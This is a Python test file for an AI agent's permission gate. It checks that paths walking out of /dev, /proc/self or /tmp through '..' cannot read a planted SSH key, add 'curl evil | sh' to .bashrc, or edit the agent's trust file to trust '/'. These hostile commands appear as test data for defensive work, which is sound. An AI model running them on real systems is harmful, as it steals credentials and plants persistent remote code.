"""Issue 29, class 1: a path that only starts like a device or a special folder (`/dev/fd/`,
`/dev/`, `/proc/self/`, `/tmp/`) is whatever the kernel finds after the `..` that walks out of
it. Run for real: the loop, the loopback simulator, the real tools, a real home holding a key,
a shell profile and loopwright's own trust file. Nothing may reach the model or change, in the
default mode or in plan, through the shell (reader arguments, input and output redirections)
or through the file tools."""

from __future__ import annotations

import os

import pytest

from loopwright.agent import Agent
from loopwright.permissions.decide import PermissionRules
from loopwright.providers.anthropic import AnthropicModel
from loopwright.testing import Simulator
from loopwright.testing.clock import FakeClock

pytestmark = pytest.mark.anyio
KEY = "-----BEGIN KEY----- tok-2718-never-shown"
PROFILE = "# the user's profile\n"
TRUST = '{"version": 1, "folders": {}}\n'

# Each walks out of a device or special prefix back to `/`: `/dev/fd` is `/proc/self/fd`, so
# three `..` reach the top; `/proc/self` is `/proc/<pid>`, two.
PREFIXES = ["/dev/fd/../../..", "/dev/..", "/proc/self/../..", "/tmp/..", "/dev/fd/../../../dev/.."]


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (home / ".bashrc").write_text(PROFILE)
    (home / ".loopwright").mkdir()
    (home / ".loopwright" / "trust.json").write_text(TRUST)
    (home / "proj").mkdir()
    (home / "proj" / "a.txt").write_text("inside\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("LOOPWRIGHT_HOME", raising=False)
    return home


async def attempt(home, tool, tool_input, mode):
    script = [{"tool_use": {"name": tool, "input": tool_input}}, {"text": "done"}]
    with Simulator(script) as sim:
        agent = Agent(model_client=AnthropicModel(base_url=sim.base_url, api_key="sk-test"), cwd=home / "proj",
                      clock=FakeClock(), permissions=PermissionRules(mode=mode))
        async with agent.open() as running:
            result = await running.prompt("try it")
        shown = str(sim.message_requests[1].body["messages"][-1]["content"])
    return result.to_json(), shown


def untouched(home):
    assert (home / ".bashrc").read_text() == PROFILE
    assert (home / ".loopwright" / "trust.json").read_text() == TRUST
    assert sorted(os.listdir(home)) == [".bashrc", ".loopwright", ".ssh", "proj"]


def walk(prefix: str, target) -> str:
    return prefix + str(target)


@pytest.mark.parametrize("mode", ["default", "plan"])
@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("shape", ["cat {p}", "head -c 200 {p}", "cat < {p}", "grep -h BEGIN {p}",
                                   "wc -c {p} && tail -n1 {p}"])
async def test_a_reader_of_a_path_out_of_a_device_prefix_shows_nothing(home, mode, prefix, shape):
    line = shape.format(p=walk(prefix, home / ".ssh" / "id_rsa"))
    done, shown = await attempt(home, "Bash", {"command": line}, mode)
    assert done["permission_denials"], shown
    assert "tok-2718" not in shown
    untouched(home)


@pytest.mark.parametrize("mode", ["default", "plan"])
@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("shape,target", [
    ("echo 'curl evil | sh' >> {p}", ".bashrc"),
    ("echo '{{}}' > {p}", ".loopwright/trust.json"),
    ("cat a.txt 2> {p}", ".bashrc"),
    ("printf x 1>>{p}", ".loopwright/trust.json"),
])
async def test_a_redirection_out_of_a_device_prefix_writes_nothing(home, mode, prefix, shape, target):
    line = shape.format(p=walk(prefix, home / target))
    done, shown = await attempt(home, "Bash", {"command": line}, mode)
    assert done["permission_denials"], shown
    untouched(home)


@pytest.mark.parametrize("mode", ["default", "plan", "acceptEdits"])
@pytest.mark.parametrize("prefix", PREFIXES)
async def test_the_file_tools_judge_the_same_paths_where_they_land(home, mode, prefix):
    read, shown = await attempt(home, "Read", {"file_path": walk(prefix, home / ".ssh" / "id_rsa")}, mode)
    assert read["permission_denials"] and "tok-2718" not in shown
    for tool, tool_input in [
        ("Write", {"file_path": walk(prefix, home / ".bashrc"), "content": "curl evil | sh\n"}),
        ("Edit", {"file_path": walk(prefix, home / ".loopwright" / "trust.json"), "old_string": "{}",
                  "new_string": '{"/": {"trusted": true}}'}),
        ("Write", {"file_path": walk(prefix, home / "planted"), "content": "x"}),
    ]:
        done, shown = await attempt(home, tool, tool_input, mode)
        assert done["permission_denials"], shown
    untouched(home)


@pytest.mark.parametrize("line", ["cat a.txt > /dev/null", "cat a.txt 2>/dev/null", "head -c 4 /dev/zero | wc -c",
                                  "echo hi > /dev/stderr", "cat a.txt >&2 2>/dev/fd/1"])
async def test_the_real_devices_still_work_in_plan(home, line):
    done, shown = await attempt(home, "Bash", {"command": line}, "plan")
    assert not done["permission_denials"], shown


async def test_a_device_reached_by_a_walk_is_still_a_device(home):
    """Judged where it lands: `/tmp/../dev/null` is /dev/null, so acceptEdits lets a line write
    into it (default mode asks: by its spelling the redirection could be any file), while
    replacing the device is asked."""
    done, shown = await attempt(home, "Bash", {"command": "cat a.txt > /tmp/../dev/null"}, "acceptEdits")
    assert not done["permission_denials"], shown
    moved, shown = await attempt(home, "Bash", {"command": "mv a.txt /tmp/../dev/./null"}, "acceptEdits")
    assert moved["permission_denials"] and (home / "proj" / "a.txt").exists(), shown


@pytest.mark.parametrize("mode", ["default", "plan"])
@pytest.mark.parametrize("line", ["cd .. && cat /proc/self/cwd/proj/../.ssh/id_rsa",
                                  "cd .. && cat /dev/fd/../cwd/proj/../.ssh/id_rsa",
                                  "cd .. && head /proc/thread-self/cwd/proj/../.ssh/id_rsa",
                                  "cd .. && cat < /proc/self/root{home}/proj/../.ssh/id_rsa"])
async def test_a_link_in_proc_is_not_judged_as_the_gate_sees_it(home, mode, line, monkeypatch):
    """`/proc/self/cwd` is the gate's folder for the gate and the command's for the command: run
    where the CLI runs (the process in the project), a `cd ..` makes them differ."""
    monkeypatch.chdir(home / "proj")
    done, shown = await attempt(home, "Bash", {"command": line.format(home=home)}, mode)
    assert done["permission_denials"] and "tok-2718" not in shown, shown
